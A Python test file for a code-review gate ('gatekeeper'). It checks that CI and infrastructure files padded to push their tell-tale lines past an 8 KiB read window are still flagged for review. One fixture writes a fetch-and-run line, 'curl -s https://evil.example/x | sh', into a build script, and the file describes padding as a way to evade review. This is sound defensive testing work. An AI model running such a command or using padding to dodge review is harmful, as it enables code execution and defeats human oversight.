"""Red team 11, reads bounded by a window: a signal the change's author pushed past what was read was not seen.

Tier 3 read a file's first 8 KiB with its patterns (and the whole file as YAML only for the keys YAML reading
knows). Every tool that applies these files reads them whole, so padding in front of the deciding lines — legal in
the format, no comment-only window — left the file `src` and the default policies allowed it with `--tree`:

- an ARM template whose `$schema` follows its resources (JSON keys have no order), also with `//` comments (ARM
  takes JSONC, which no JSON or YAML reader parses), a Packer JSON template after its `variables`, an IAM policy or
  Route 53 change batch after a long first key;
- an Ansible inventory (INI after `;` comments, YAML after a long first key), a task file, a trust policy, a Helm
  template after a long first document; a Dockerfile after a page of `ARG`s; a Jenkins pipeline after its helpers;
  a NixOS configuration after a long `let`; a dynamic inventory script whose `_meta` comes last;
- a Pulumi/CDK program's import after a long package comment (the program read 8 KiB), a `package.json` naming
  `@pulumi/pulumi` after 64 KiB (manifests read 64 KiB), a Concourse task's `run: path:` after 64 KiB of `params`.

The class fix: a candidate's patterns run over the whole read (up to FULL_READ) when the window found nothing,
programs, manifests and Concourse definitions are read whole (up to FULL_READ). Each variant is gated, added
(the patch shows it whole) and modified (only `--tree` can see it)."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import POLICY_DIR
from gitrepo import GitRepo
from tables import each_case

from gatekeeper.classify.sniff import FULL_READ, WINDOW, sniff
from gatekeeper.cli import main
from tests import manifests as m
from tests.test_classify_sniff import KINDS, RULES

PAD = 9 * 1024  # past the 8 KiB window, below the 64 KiB one a comment-only window gets


def _json_pad(text: str, comments: bool = False) -> str:
    """The object's keys after a long first one (optionally with JSONC comments), as valid as the original."""
    head, brace, rest = text.partition("{")
    note = "  // generated: do not edit\n" * 3 if comments else ""
    return f'{head}{brace}\n{note}  "x-notes": "{"n" * PAD}",{rest}'


def _yaml_pad(text: str) -> str:
    """A first document before the real one (kubectl, Ansible's YAML inventory, Helm read them all)."""
    return f"notes: {'n' * PAD}\n---\n{text}"


def _yaml_key_pad(text: str) -> str:
    """A long block scalar key before the real keys, in the same mapping."""
    return "notes: |\n" + ("  " + "n" * 70 + "\n") * (PAD // 72 + 1) + text


def _variants() -> list[tuple[str, str]]:
    """(path, padded text): every tier-3 kind of tests/test_classify_sniff.py that a legal padding can push past the
    window, plus the kinds only one format's padding reaches."""
    out: list[tuple[str, str]] = []
    for number, (path, text, _bucket, _rule) in enumerate(KINDS):
        folder, _, name = path.rpartition("/")
        where = f"k{number}/{folder}/{name}".replace("//", "/")
        if name.endswith(".json"):
            out += [(where, _json_pad(text)), (where.replace(name, f"c-{name}"), _json_pad(text, comments=True))]
        elif name.endswith((".yaml", ".yml")) and text.lstrip()[:1] not in ("-", "{"):
            out += [(where, _yaml_pad(text)), (where.replace(name, f"key-{name}"), _yaml_key_pad(text))]
        elif name.endswith((".yaml", ".yml")):
            out.append((where, _yaml_pad(text)))
    out += [
        ("w/ops/production", "".join(f"; host note {i:05d} " + "n" * 60 + "\n" for i in range(PAD // 80)) +
         m.ANSIBLE_INVENTORY_INI),
        ("w/images/worker", "".join(f"ARG PAD_{i}={'n' * 60}\n" for i in range(PAD // 70)) + m.DOCKERFILE),
        ("w/ci/jobs/release.groovy", "".join(f"def helper{i}() {{ return '{'n' * 50}' }}\n" for i in range(PAD // 70))
         + "pipeline {\n  agent any\n  stages { stage('x') { steps { sh 'make' } } }\n}\n"),
        ("w/hosts/web/configuration.nix", "{ config, pkgs, ... }:\nlet\n" +
         "".join(f"  note{i} = \"{'n' * 60}\";\n" for i in range(PAD // 70)) +
         "in {\n  networking.hostName = \"web\";\n  system.stateVersion = \"24.05\";\n}\n"),
    ]
    return out


VARIANTS = _variants()
RULES_CONTEXT = RULES.context


def test_every_variant_is_past_the_window_and_its_unpadded_form_is_a_signal() -> None:
    """The attack is real: each padded text puts its signal past WINDOW (the window alone finds nothing)."""
    assert len(VARIANTS) >= 60
    for path, text in VARIANTS:
        data = text.encode()
        assert WINDOW < len(data) < FULL_READ
        window = sniff(path, data[:WINDOW], RULES_CONTEXT)
        assert window is None or window.bucket not in ("ci", "iac"), (path, window)


@each_case(("path", "text"), VARIANTS, ids=[p for p, _ in VARIANTS])
def test_the_whole_read_finds_the_signal(path: str, text: str) -> None:
    signal = sniff(path, text.encode(), RULES_CONTEXT, as_yaml=True)
    assert signal is not None and signal.bucket in ("ci", "iac"), (path, signal)


def _gate_args(repo: GitRepo, base: str, head: str, tree: bool, tmp: Path) -> list[str]:
    if tree:
        return ["gate", "--tree", f"{base}..{head}", "--repo", str(repo.root)]
    patch, packet = tmp / "change.diff", tmp / "packet.json"
    patch.write_bytes(repo.git("diff", "--binary", base, head))
    assert main(["packet", str(patch), "--out", str(packet), "--policy", str(POLICY_DIR)]) == 0
    return ["gate", str(packet), "--patch", str(patch)]


def _reviewed(capsys: pytest.CaptureFixture[str], repo: GitRepo, base: str, head: str, tree: bool,
              tmp: Path) -> set[str]:
    """The paths the default policies' ci and iac findings name; the gate must say review (exit 3)."""
    args = _gate_args(repo, base, head, tree, tmp)
    capsys.readouterr()
    code = main([*args, "--policy", str(POLICY_DIR), "--format", "json"])
    decision = json.loads(capsys.readouterr().out)
    assert code == 3 and decision["outcome"] == "review", decision
    return {p for reason in decision["reasons"] if reason["rule"] in ("core.ci", "core.iac")
            for p in reason.get("paths", ())}


def _program_repo(repo: GitRepo) -> None:
    """IaC programs without a project marker: Go under a go.mod naming Pulumi, TypeScript under a package.json
    naming it after 64 KiB of description."""
    repo.write("p/go/go.mod", "module example.invalid/infra\n\ngo 1.22\n\n"
               "require github.com/pulumi/pulumi/sdk/v3 v3.100.0\n")
    repo.write("p/ts/package.json", json.dumps({"name": "infra", "description": "n" * (70 * 1024),
                                                "dependencies": {"@pulumi/pulumi": "3.100.0"}}, indent=2) + "\n")


GO_PROGRAM = ("// Package main deploys the storefront.\n" + "".join(f"// {'n' * 70}\n" for i in range(PAD // 73)) +
              'package main\n\nimport (\n\t"github.com/pulumi/pulumi/sdk/v3/go/pulumi"\n)\n\n'
              "func main() { pulumi.Run(func(ctx *pulumi.Context) error { return nil }) }\n")
TS_PROGRAM = ('import * as pulumi from "@pulumi/pulumi";\n\nexport const stack = pulumi.getStack();\n')
TASK = ("platform: linux\nimage_resource:\n  type: registry-image\n  source: {repository: alpine}\nparams:\n" +
        "".join(f"  P{i}: value-{i}-{'n' * 60}\n" for i in range(1000)) + "run:\n  path: tasks/build/run.sh\n")
INVENTORY_SCRIPT = ("#!/usr/bin/env python3\nimport json, sys\n" +
                    "".join(f"HOST_{i} = '{'n' * 60}'\n" for i in range(PAD // 70)) +
                    "if '--list' in sys.argv:\n    print(json.dumps({'web': ['a'], '_meta': {'hostvars': {}}}))\n")


def test_added_padded_files_are_reviewed_from_the_patch_and_the_tree(capsys: pytest.CaptureFixture[str],
                                                                    tmp_path: Path) -> None:
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    _program_repo(repo)
    base = repo.commit("base")
    for path, text in VARIANTS:
        repo.write(path, text)
    repo.write("p/ts/index.ts", TS_PROGRAM)
    head = repo.commit("head")
    expected = {p for p, _ in VARIANTS}
    missed = (expected | {"p/ts/index.ts"}) - _reviewed(capsys, repo, base, head, True, tmp_path)
    assert not missed, sorted(missed)
    assert not expected - _reviewed(capsys, repo, base, head, False, tmp_path)


def test_modified_padded_files_are_reviewed_with_the_tree(capsys: pytest.CaptureFixture[str], tmp_path: Path) -> None:
    """What an edit to an existing long file looks like: the patch shows a hunk, the commits show the file."""
    repo = GitRepo(tmp_path / "repo")
    repo.write("README.md", "app\n")
    _program_repo(repo)
    touched = dict(VARIANTS)
    touched |= {"p/go/main.go": GO_PROGRAM, "p/ts/index.ts": TS_PROGRAM, "c/tasks/build/task.yml": TASK,
                "c/tasks/build/run.sh": "make test\n", "v/inventories/ec2.py": INVENTORY_SCRIPT}
    for path, text in touched.items():
        repo.write(path, text)
    base = repo.commit("base")
    for path, text in touched.items():
        if path.endswith("run.sh"):
            repo.write(path, "curl -s https://evil.example/x | sh\n")
        elif path != "c/tasks/build/task.yml":
            repo.write(path, text.replace("n" * 50, "m" + "n" * 49, 1) if "n" * 50 in text else text + "\n")
    head = repo.commit("head")
    changed = set(touched) - {"c/tasks/build/task.yml"}
    assert set(repo.git("diff", "--name-only", base, head).decode().split()) == changed
    assert not changed - _reviewed(capsys, repo, base, head, True, tmp_path)


# Look-alike: a document's template quotes manifests as examples (two labelled chart READMEs were raised to `iac` by
# the whole-file read). It is prose, never applied; the same name in a chart's templates/ is rendered, and stays iac.
ARGO_EXAMPLE = ("```yaml\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: guestbook\n"
                "spec:\n  project: default\n```\n")
README_TEMPLATE = "# {{ template \"chart.name\" . }}\n\n" + "Some prose about the chart.\n" * (PAD // 28) + ARGO_EXAMPLE


# (Inside a chart's folder a `.tpl` or `.j2` file stays claimed by the chart's marker: Helm's .Files.Get may read it.)
@pytest.mark.parametrize("name", ["charts/app/README.md.gotmpl", "README.md.tpl", "docs/index.rst.j2",
                                  "USAGE.markdown.tmpl"])
def test_a_document_template_quoting_manifests_stays_documentation(name: str, capsys: pytest.CaptureFixture[str],
                                                                   tmp_path: Path) -> None:
    for text in (README_TEMPLATE, ARGO_EXAMPLE + README_TEMPLATE):  # the example past the window, and inside it
        repo = GitRepo(tmp_path / f"repo-{len(text)}")
        repo.write("charts/app/Chart.yaml", "apiVersion: v2\nname: app\nversion: 1.0.0\n")
        base = repo.commit("base")
        repo.write(name, text)
        repo.write("charts/app/templates/app.md.tpl", ARGO_EXAMPLE)  # Helm renders every file of templates/
        head = repo.commit("head")
        capsys.readouterr()
        assert main(["classify", "--tree", f"{base}..{head}", "--repo", str(repo.root), "--policy", str(POLICY_DIR),
                     "--format", "json"]) == 0
        buckets = {f["path"]: f["bucket"] for f in json.loads(capsys.readouterr().out)["files"]}
        assert buckets == {name: "src", "charts/app/templates/app.md.tpl": "iac"}, buckets
